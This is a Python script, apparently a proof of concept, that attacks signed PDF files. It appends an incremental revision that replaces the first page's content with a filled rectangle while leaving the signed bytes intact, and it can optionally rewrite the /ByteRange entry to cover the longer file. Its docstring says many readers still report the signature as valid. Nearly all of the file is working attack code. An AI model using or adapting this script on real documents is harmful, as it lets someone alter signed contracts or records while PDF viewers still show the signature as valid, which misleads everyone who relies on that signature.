#!/usr/bin/env python3
"""The attack on signed files: another page in a revision behind the signed bytes, which stay as
they are. Many readers still call the signature valid.

    attack.py FILE TO [fix]    fix: ByteRange is made to cover the longer file
"""

import re
import sys

from pdf import Document


def written(value):
    """qpdf's JSON as PDF."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return str(value)
    if isinstance(value, list):
        return "[" + " ".join(written(v) for v in value) + "]"
    if isinstance(value, dict):
        return "<<" + " ".join("%s %s" % (k, written(v)) for k, v in value.items()) + ">>"
    if value.startswith("u:"):
        return "<FEFF" + value[2:].encode("utf-16-be").hex() + ">"
    return "<" + value[2:] + ">" if value.startswith("b:") else value


def attack(path):
    doc = Document(path)
    page = doc.pages()[0]
    data = bytearray(doc.bytes)
    size = max(int(name[4:].split()[0]) for name in doc.objects) + 1
    before = int(re.findall(rb"startxref\n(\d+)", data)[-1])
    places = {}

    def add(number, body):
        places[number] = len(data)
        data.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    mark = b"" if doc.version == "1.4" else b"/Artifact<</Type/Layout>>BDC "
    content = mark + b"0 g 50 400 500 300 re f" + (b" EMC" if mark else b"")
    add(size, b"<</Length %d>>stream\n%s\nendstream" % (len(content), content))
    keys = dict(doc.of(page), **{"/Contents": "%d 0 R" % size})
    add(int(page.split()[0]), written(keys).encode())
    root, trailer = doc.trailer["/Root"].encode(), doc.trailer
    rest = b"/Root %s/Info %s/ID %s/Prev %d" % (root, trailer["/Info"].encode(),
                                               written(trailer["/ID"]).encode(), before)
    start = len(data)
    if doc.version == "1.4":
        data.extend(b"xref\n")
        for number, at in sorted(places.items()):
            data.extend(b"%d 1\n%010d 00000 n \n" % (number, at))
        data.extend(b"trailer\n<</Size %d%s>>\n" % (size + 1, rest))
    else:
        places[size + 1] = start
        rows = b"".join(b"\1" + at.to_bytes(4, "big") + b"\0\0" for _, at in sorted(places.items()))
        index = " ".join("%d 1" % number for number in sorted(places)).encode()
        data.extend(b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Index[%s]%s/Length %d>>stream\n%s"
                    b"\nendstream\nendobj\n" % (size + 1, size + 2, index, rest, len(rows), rows))
    data.extend(b"startxref\n%d\n%%%%EOF\n" % start)
    return bytes(data)


def main(path, to, fix=None):
    data = attack(path)
    if fix:
        found = re.search(rb"/ByteRange\[0 (\d+) (\d+) \d+ *\]", data)
        at, end = int(found[1]), int(found[2])
        numbers = b"/ByteRange[0 %d %d %d" % (at, end, len(data) - end)
        numbers = numbers.ljust(found.end() - found.start() - 1) + b"]"
        data = data[:found.start()] + numbers + data[found.end():]
    with open(to, "wb") as file:
        file.write(data)


if __name__ == "__main__":
    main(*sys.argv[1:])
